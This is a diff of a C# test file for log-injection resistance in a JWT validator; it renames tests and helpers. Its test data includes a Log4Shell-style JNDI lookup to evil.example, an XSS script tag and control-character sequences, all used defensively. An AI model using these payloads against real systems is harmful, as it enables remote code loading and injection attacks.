@@ -6,7 +6,7 @@ using Microsoft.Extensions.Time.Testing;
 
 namespace HipaaJwt.Tests.Conformance.Leaks;
 
-/// <summary>Family 42: whatever a claim or a request holds, an event is one line of ASCII JSON.</summary>
+/// <summary>Family 42: an event is one line of ASCII JSON, for any content of claims and requests.</summary>
 public sealed class LogInjectionTests : IDisposable
 {
     private readonly TestIssuer _issuer = new();
@@ -29,7 +29,7 @@ public sealed class LogInjectionTests : IDisposable
     [InlineData("<script>alert(1)</script>")]
     [InlineData("${jndi:ldap://evil.example/a}")]
     [InlineData("é患者😀\uFFFE\uFEFF")]
-    public async Task A_claim_stays_inside_its_line(string value)
+    public async Task A_claim_stays_within_its_log_line(string value)
     {
         var line = await LineAsync(value, resource: "/patients");
 
@@ -45,11 +45,11 @@ public sealed class LogInjectionTests : IDisposable
     [InlineData("/a\0b")]
     [InlineData("/a\u0085b\u2028c")]
     [InlineData("/a\tb")]
-    public async Task A_resource_stays_inside_its_line(string resource) =>
+    public async Task A_resource_stays_within_its_log_line(string resource) =>
         (await LineAsync("user-42", resource)).GetProperty("resource").GetString().Should().Be(resource);
 
     [Fact]
-    public async Task A_resource_that_is_no_Unicode_is_written_all_the_same()
+    public async Task Writes_a_resource_with_invalid_Unicode()
     {
         var line = await LineAsync("user-42", "/a" + '\uD800');
 
@@ -61,14 +61,14 @@ public sealed class LogInjectionTests : IDisposable
     [InlineData("a\\u001b[31mb")]
     [InlineData("a\\u0085b")]
     [InlineData("a\\u0000b")]
-    public async Task A_control_character_in_a_name_does_not_get_as_far_as_the_log(string value)
+    public async Task A_control_character_in_an_identifier_is_not_logged(string value)
     {
         await using var services = Services();
-        var claims = Workshop.Claims.With("sub", $"\"{value}\"").ToString();
+        var claims = TokenFixture.Claims.With("sub", $"\"{value}\"").ToString();
 
         await services.GetRequiredService<IJwtValidator>().ValidateAsync(_issuer.Sign(TestIssuer.Header().ToJsonString(), claims));
 
-        var line = EventsSaid().Should().ContainSingle().Subject;
+        var line = EventLines().Should().ContainSingle().Subject;
         line.Should().Contain("ClaimInvalid").And.NotContain("u001b").And.NotContain("subject");
     }
 
@@ -82,7 +82,8 @@ public sealed class LogInjectionTests : IDisposable
             claims["jti"] = value;
         });
 
-        var result = await services.GetRequiredService<IJwtValidator>().ValidateAsync(token, new JwtValidationRequest { Resource = resource });
+        var result = await services.GetRequiredService<IJwtValidator>().ValidateAsync(
+            token, new JwtValidationRequest { Resource = resource });
 
         result.Error.Should().Be(JwtError.None);
         var line = Lines().Should().ContainSingle().Subject;
@@ -90,10 +91,10 @@ public sealed class LogInjectionTests : IDisposable
         return JsonDocument.Parse(line).RootElement;
     }
 
-    private IEnumerable<string> Lines() => EventsSaid().Select(said => said[..said.IndexOf(" [schemaVersion, ", StringComparison.Ordinal)]);
+    private IEnumerable<string> Lines() => EventLines().Select(line => line[..line.IndexOf(" [schemaVersion, ", StringComparison.Ordinal)]);
 
-    /// <summary>The lines of events, each with its structured properties behind it.</summary>
-    private IEnumerable<string> EventsSaid() => _recorder.Said.Where(said => said.StartsWith('{'));
+    /// <summary>The lines of events, each followed by its structured properties.</summary>
+    private IEnumerable<string> EventLines() => _recorder.Outputs.Where(output => output.StartsWith('{'));
 
     private ServiceProvider Services()
     {
